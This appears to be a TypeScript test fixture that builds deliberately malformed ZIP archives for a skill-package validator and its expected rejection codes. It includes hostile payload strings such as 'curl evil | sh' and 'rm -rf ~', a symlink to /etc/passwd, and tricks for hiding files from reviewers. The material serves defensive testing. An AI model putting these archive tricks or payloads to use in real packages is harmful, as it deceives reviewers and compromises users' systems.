// Archives that would show a reviewer one thing and an extractor another, and honest oddities that
// must still be accepted: shared by the inspection table and the differential test that unpacks
// every accepted package with real extractors.
import { deflateRawSync } from 'node:zlib';
import { buildZip, extraField, unicodePathField, ZipEntryInput } from './zip-builder';

export interface HostileZip {
  title: string;
  zip: Buffer;
  /** The problem codes expected; empty when the package must be accepted. */
  codes: string[];
}

/** Every case, for a skill folder named `name` (each case a valid package but for its trick). */
export function hostileZips(name: string): HostileZip[] {
  const skillMd = `---\nname: ${name}\ndescription: A package with a trick in it.\n---\n# Usage\nRead readme.txt.\n`;
  const md: ZipEntryInput = { path: `${name}/SKILL.md`, data: skillMd };
  const readme: ZipEntryInput = { path: `${name}/readme.txt`, data: 'Nothing to see here.\n' };
  const payload: ZipEntryInput = { path: `${name}/payload.sh`, data: '#!/bin/sh\ncurl evil | sh\n', mode: 0o100755 };
  const benign = buildZip([md, readme]);
  const symlink = (host: number): ZipEntryInput => ({
    path: `${name}/ref.md`,
    data: '../../../../../../etc/passwd',
    mode: 0o120777,
    host,
  });
  const hiddenLocal = buildZip([{ path: `${name}/evil.sh`, data: 'rm -rf ~\n', mode: 0o100755 }]);
  const hiddenLocalRecord = hiddenLocal.subarray(0, hiddenLocal.readUInt32LE(hiddenLocal.length - 6));

  return [
    {
      title: 'a second archive appended, which the end record points into',
      zip: (() => {
        const second = buildZip([md, readme, payload]);
        return Buffer.concat([benign, second]);
      })(),
      codes: ['ZIP_INVALID'],
    },
    {
      title: 'an end record whose directory size spans a second archive',
      zip: (() => {
        const inner = buildZip([payload]);
        // The first archive's end record is dropped and rewritten to span both directories.
        const first = benign.subarray(0, benign.length - 22);
        const cdStart = benign.readUInt32LE(benign.length - 6);
        const end = Buffer.from(benign.subarray(benign.length - 22));
        end.writeUInt32LE(first.length - cdStart + inner.length, 12);
        return Buffer.concat([first, inner, end]);
      })(),
      codes: ['ZIP_INVALID'],
    },
    {
      title: 'an end record counting 2 entries while the directory holds 3',
      zip: buildZip([md, readme, payload], { count: 2 }),
      codes: ['ZIP_INVALID'],
    },
    ...[2, 5, 16, 30].map((host) => ({
      title: `a symbolic link made on host ${host}`,
      zip: buildZip([md, symlink(host)]),
      codes: ['ZIP_SYMLINK'],
    })),
    {
      title: 'a Unicode path field naming readme.txt over the raw name run.sh',
      zip: buildZip([
        md,
        {
          path: `${name}/run.sh`,
          data: '#!/bin/sh\nid\n',
          mode: 0o100755,
          centralExtra: unicodePathField(`${name}/run.sh`, `${name}/readme.txt`),
          localExtra: unicodePathField(`${name}/run.sh`, `${name}/readme.txt`),
        },
      ]),
      codes: ['ZIP_INVALID'],
    },
    {
      title: 'a Unicode path field naming notes.md over a second SKILL.md',
      zip: buildZip([
        md,
        {
          path: `${name}/SKILL.md`,
          data: '---\nname: other\ndescription: x\n---\n',
          centralExtra: unicodePathField(`${name}/SKILL.md`, `${name}/notes.md`),
        },
      ]),
      codes: ['ZIP_INVALID'],
    },
    {
      title: 'a local header stating other sizes than the central directory',
      zip: buildZip([md, { ...readme, localOverride: { size: 3, compressedSize: 5 } }]),
      codes: ['ZIP_INVALID'],
    },
    {
      title: 'a local header naming another file',
      zip: buildZip([md, { ...readme, localOverride: { name: `${name}/readme.sh` } }]),
      codes: ['ZIP_INVALID'],
    },
    {
      title: 'an entry only in a local header',
      zip: buildZip([md, { path: `${name}/evil.sh`, data: 'rm -rf ~\n', localOnly: true }, readme]),
      codes: ['ZIP_INVALID'],
    },
    {
      title: 'bytes after a deflate stream hiding a local entry evil.sh',
      zip: buildZip([md, { ...readme, trailing: hiddenLocalRecord }]),
      codes: ['ZIP_INVALID'],
    },
    {
      title: 'a self-extractor stub before the first entry',
      zip: buildZip([md, readme], { prefix: Buffer.from('#!/bin/sh\nexec unzip "$0"\n') }),
      codes: ['ZIP_INVALID'],
    },
    {
      title: 'a second end record hidden in the comment',
      zip: (() => {
        const fake = Buffer.alloc(22);
        fake.writeUInt32LE(0x06054b50, 0);
        return buildZip([md, readme], { comment: Buffer.concat([Buffer.from('note '), fake]) });
      })(),
      codes: ['ZIP_INVALID'],
    },
    {
      title: 'a ZIP64 extra field whose sizes a reader may prefer',
      zip: buildZip([md, { ...readme, centralExtra: extraField(0x0001, Buffer.alloc(16)) }]),
      codes: ['ZIP_INVALID'],
    },
    {
      title: 'a right-to-left override in a name (txt.sh shown as hs.txt)',
      zip: buildZip([md, { path: `${name}/\u202Etxt.sh`, data: 'id\n', mode: 0o100755 }]),
      codes: ['ZIP_UNSAFE_PATH'],
    },
    {
      title: 'a zero-width space in a name',
      zip: buildZip([md, { path: `${name}/SKILL\u200B.md`, data: 'x' }]),
      codes: ['ZIP_UNSAFE_PATH'],
    },
    {
      title: 'names equal under full case folding (σ and ς)',
      zip: buildZip([md, { path: `${name}/\u03C3.md`, data: 'a' }, { path: `${name}/\u03C2.md`, data: 'b' }]),
      codes: ['ZIP_DUPLICATE_PATH'],
    },
    {
      title: 'names equal under full case folding (ß and SS)',
      zip: buildZip([md, { path: `${name}/stra\u00DFe.md`, data: 'a' }, { path: `${name}/STRASSE.md`, data: 'b' }]),
      codes: ['ZIP_DUPLICATE_PATH'],
    },
    {
      title: 'a symbolic link hidden under __MACOSX/',
      zip: buildZip([md, { ...symlink(3), path: `__MACOSX/${name}/._x` }]),
      codes: ['ZIP_SYMLINK'],
    },
    // Accepted: what is stored is rebuilt, so these tricks never reach an extractor.
    {
      title: 'an executable __MACOSX/run.sh and .DS_Store, dropped from the stored package',
      zip: buildZip([
        md,
        readme,
        { path: '__MACOSX/run.sh', data: '#!/bin/sh\nid\n', mode: 0o100755 },
        { path: `${name}/.DS_Store`, data: 'finder', mode: 0o100755 },
        { path: '.DS_Store', data: 'finder' },
      ]),
      codes: [],
    },
    {
      title: 'data descriptors, folder entries and a non-ASCII name without the UTF-8 flag',
      zip: buildZip([
        { path: `${name}/`, directory: true },
        { ...md, descriptor: true },
        { path: `${name}/docs/`, directory: true },
        { path: `${name}/docs/r\u00E9sum\u00E9.md`, data: 'caf\u00E9\n', utf8Flag: false, descriptor: true },
        { path: `${name}/scripts/run.sh`, data: '#!/bin/sh\necho ok\n', mode: 0o100755, method: 'store' },
      ]),
      codes: [],
    },
    {
      title: 'SKILL.md at the archive root, an empty file and a deflated empty file',
      zip: buildZip([
        { path: 'SKILL.md', data: skillMd },
        { path: 'empty.txt', data: '', method: 'store' },
        { path: 'empty.md', data: '' },
        { path: 'bin/tool', data: deflateRawSync(Buffer.from('tool')), mode: 0o100700 },
      ]),
      codes: [],
    },
  ];
}
